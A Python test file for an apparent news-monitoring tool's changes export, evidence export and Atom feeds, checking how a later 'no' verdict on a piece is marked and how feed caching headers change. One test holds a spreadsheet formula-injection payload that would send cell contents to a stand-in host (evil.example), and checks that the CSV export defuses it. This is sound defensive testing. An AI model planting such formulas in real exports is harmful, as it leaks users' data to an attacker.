"""Evidence an analyst judged `no` after the change that listed it, in the changes export and
the Atom feeds, on SQLite and PostgreSQL: `monitor export changes` and GET /export/changes
carry each piece's `judged_since` as the history does (the same model, the same read), and
/changes.atom marks it in the entry's content with the history's words; the entry's `updated`
stays when it went out (a correction is not news), while its body, ETag and `Last-Modified`
move so a poll fetches the mark. The evidence export (`monitor export evidence`, GET
/export/evidence) marks each of its pieces the same way: `judged_since` in JSON, the columns
`judged_since_verdict`, `_who`, `_at`, `_note` and `_copy_of` in CSV. On test_judged_since's
store."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from typing import Any

import feedparser
import pytest
from fastapi.testclient import TestClient

from monitor import server
from monitor.domain import Definitions
from monitor.domain import iso_time as iso
from monitor.statuses import judge
from monitor.store import Store
from monitor.webmodels import ChangeEvidenceOut, ChangeOut
from tests import test_judged_since, webdata
from tests.test_digest_verdicts import HERALD, at
from tests.test_judged_since import EASED, copy_of_herald, entry, said_no

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

defs, store = test_judged_since.defs, test_judged_since.store  # fixtures
env, client = test_judged_since.env, test_judged_since.client  # fixtures


def exported(env: dict[str, str], fmt: str = "json", kind: str = "changes") -> str:
    result = webdata.run_cli(env, "export", kind, "--format", fmt)
    assert result.exit_code == 0, result.output
    return result.stdout


def herald_in(items: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The Herald's first copy as each change lists it."""
    return [e for c in items for e in c["evidence"] if e["title"] == HERALD]


def history_of(env: dict[str, str]) -> list[dict[str, Any]]:
    result = webdata.run_cli(env, "history", "visa-easing", "--json")
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


@pytest.mark.parametrize("on", ["the piece", "a copy of its story"])
def test_the_changes_export_marks_a_piece_judged_no_since_as_the_history_does(
    defs: Definitions, store: Store, env: dict[str, str], client: TestClient, on: str
) -> None:
    herald, copy = entry(store, HERALD), copy_of_herald(store)
    said_no(defs, store, herald if on == "the piece" else copy, 2)

    printed = json.loads(exported(env))
    served = client.get("/export/changes", params={"format": "json"})
    assert served.status_code == 200 and served.json() == printed
    listed = herald_in(printed)
    assert listed and all(
        e["judged_since"] == {
            "verdict": "no", "who": "ana", "at": "2026-03-10T02:00:00Z",
            "note": "a tour-group story, not visas",
            "copy_of": None if on == "the piece" else copy,
        }
        for e in listed
    )  # fmt: skip
    others = [e for c in printed for e in c["evidence"] if e["title"] != HERALD]
    assert others and all(e["judged_since"] is None for e in others)
    # the same items as the history (one model, one read), oldest first
    mine = [c for c in printed if c["indicator"] == "visa-easing"]
    assert mine == history_of(env)[::-1]
    # CSV: a change's evidence is its count, as before (a row per piece is the evidence export)
    table = list(csv.DictReader(io.StringIO(exported(env, "csv"), newline="")))
    fields = [n for n in ChangeOut.model_fields if n != "evidence"]
    assert list(table[0]) == [f"{n}_count" if n == "unread_feeds" else n for n in fields]


def test_a_later_yes_takes_the_exports_mark_away(
    defs: Definitions, store: Store, env: dict[str, str]
) -> None:
    herald = entry(store, HERALD)
    said_no(defs, store, herald, 2)
    assert all(e["judged_since"] for e in herald_in(json.loads(exported(env))))
    said_no(defs, store, herald, 3, "yes")
    assert all(e["judged_since"] is None for e in herald_in(json.loads(exported(env))))


JUDGED_COLUMNS = [f"judged_since_{n}" for n in ("verdict", "who", "at", "note", "copy_of")]


def evidence_rows(env: dict[str, str], client: TestClient) -> list[dict[str, str]]:
    """`monitor export evidence` as CSV rows, checked equal to GET /export/evidence's."""
    printed = list(csv.DictReader(io.StringIO(exported(env, "csv", "evidence"), newline="")))
    served = client.get("/export/evidence").text
    assert list(csv.DictReader(io.StringIO(served, newline=""))) == printed
    return printed


def evidence_items(env: dict[str, str], client: TestClient) -> list[dict[str, Any]]:
    printed = json.loads(exported(env, "json", "evidence"))
    assert client.get("/export/evidence", params={"format": "json"}).json() == printed
    return printed


@pytest.mark.parametrize("on", ["the piece", "a copy of its story"])
def test_the_evidence_export_marks_a_piece_judged_no_since_as_the_changes_export_does(
    defs: Definitions, store: Store, env: dict[str, str], client: TestClient, on: str
) -> None:
    herald, copy = entry(store, HERALD), copy_of_herald(store)
    said_no(defs, store, herald if on == "the piece" else copy, 2)

    items = evidence_items(env, client)
    changes = json.loads(exported(env))
    # each piece as its change lists it in the changes export (and the history): the same mark
    listed = {(e["entry_id"], c["id"]): e["judged_since"] for c in changes for e in c["evidence"]}
    assert listed == {(e["entry_id"], e["change_id"]): e["judged_since"] for e in items}
    marked = [e for e in items if e["judged_since"] is not None]
    assert marked and {e["title"] for e in marked} == {HERALD}
    assert len(marked) == len(herald_in(changes))
    copy_of = None if on == "the piece" else copy
    assert all(
        e["judged_since"] == {
            "verdict": "no", "who": "ana", "at": "2026-03-10T02:00:00Z",
            "note": "a tour-group story, not visas", "copy_of": copy_of,
        }
        for e in marked
    )  # fmt: skip

    table = evidence_rows(env, client)
    fields = [n for n in ChangeEvidenceOut.model_fields if n != "judged_since"]
    assert list(table[0]) == [*fields, *JUDGED_COLUMNS]
    flagged = [r for r in table if r["judged_since_verdict"]]
    assert {(r["entry_id"], r["change_id"]) for r in flagged} == {
        (str(e["entry_id"]), str(e["change_id"])) for e in marked
    }
    assert all(
        [r[c] for c in JUDGED_COLUMNS] == [
            "no", "ana", "2026-03-10T02:00:00Z", "a tour-group story, not visas",
            "" if copy_of is None else str(copy_of),
        ]
        for r in flagged
    )  # fmt: skip
    others = [r for r in table if not r["judged_since_verdict"]]
    assert others and all(r[c] == "" for r in others for c in JUDGED_COLUMNS)


def test_a_later_yes_takes_the_evidence_exports_mark_away(
    defs: Definitions, store: Store, env: dict[str, str], client: TestClient
) -> None:
    herald = entry(store, HERALD)
    said_no(defs, store, herald, 2)
    assert any(e["judged_since"] for e in evidence_items(env, client))
    assert any(r["judged_since_who"] for r in evidence_rows(env, client))
    said_no(defs, store, herald, 3, "yes")
    assert all(e["judged_since"] is None for e in evidence_items(env, client))
    assert all(r[c] == "" for r in evidence_rows(env, client) for c in JUDGED_COLUMNS)


def test_a_hostile_note_is_an_inert_cell_of_the_evidence_export(
    defs: Definitions, store: Store, env: dict[str, str], client: TestClient
) -> None:
    """A note (or a token's name) a spreadsheet would run is written as the export writes every
    such cell: with a leading `'`; JSON keeps it as given."""
    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    judge(defs, store, entry_id=entry(store, HERALD), target=EASED, verdict="no", who="@ops",
          note=note, now=at(2))  # fmt: skip
    flagged = [r for r in evidence_rows(env, client) if r["judged_since_verdict"]]
    assert flagged and all(r["judged_since_note"] == "'" + note for r in flagged)
    assert all(r["judged_since_who"] == "'@ops" for r in flagged)
    notes = {e["judged_since"]["note"] for e in evidence_items(env, client) if e["judged_since"]}
    assert notes == {note}


def feed_of(client: TestClient, **headers: str) -> Any:
    return client.get("/indicators/visa-easing/changes.atom", headers=headers)


def listing_herald(answer: Any) -> Any:
    """The feed's entry of the change that lists the Herald's story (its first copy)."""
    parsed = feedparser.parse(answer.content)
    assert not parsed.bozo, parsed.get("bozo_exception")
    (found,) = [e for e in parsed.entries if HERALD in e.content[0].value]
    return found, parsed.feed


@pytest.mark.parametrize("on", ["the piece", "a copy of its story"])
def test_the_atom_feed_marks_a_piece_judged_no_since_and_its_entry_keeps_its_updated(
    defs: Definitions, store: Store, client: TestClient, on: str
) -> None:
    """A feed reader keeps showing the old change where it was (its `updated`, and the feed's,
    as before), with the mark in its content; the poll that follows the verdict is not a 304,
    by ETag or by date."""
    before = feed_of(client)
    was, feed_was = listing_herald(before)
    assert "judged not relevant" not in was.content[0].value

    herald, copy = entry(store, HERALD), copy_of_herald(store)
    said_no(defs, store, herald if on == "the piece" else copy, 2)

    after = feed_of(client)
    now, feed_now = listing_herald(after)
    words = "✗ judged not relevant by ana at 2026-03-10T02:00:00Z"
    words += "" if on == "the piece" else f", as a copy of entry {copy}"
    shown = now.content[0].value
    assert shown.count("✗ judged not relevant") == 1
    assert words in shown and shown.index(HERALD) < shown.index(words)
    assert (now.id, now.updated, now.published) == (was.id, was.updated, was.published)
    # no change was recorded by the `no` (three sources still confirm it): the feed is as dated
    assert feed_now.updated == feed_was.updated == max(e.updated for e in [now])
    assert after.headers["etag"] != before.headers["etag"]
    assert after.headers["last-modified"] == server.http_date(at(2))
    assert feed_of(client, **{"If-None-Match": before.headers["etag"]}).status_code == 200
    since = before.headers["last-modified"]
    assert feed_of(client, **{"If-Modified-Since": since}).status_code == 200
    assert feed_of(client, **{"If-None-Match": after.headers["etag"]}).status_code == 304
    every = client.get("/changes.atom")
    assert words in listing_herald(every)[0].content[0].value


def test_a_feed_without_marks_is_dated_by_its_entries(store: Store, client: TestClient) -> None:
    answer = feed_of(client)
    parsed = feedparser.parse(answer.content)
    newest = max(datetime.fromisoformat(e.updated) for e in parsed.entries)
    assert answer.headers["last-modified"] == server.http_date(newest)
    assert iso(newest) == parsed.feed.updated
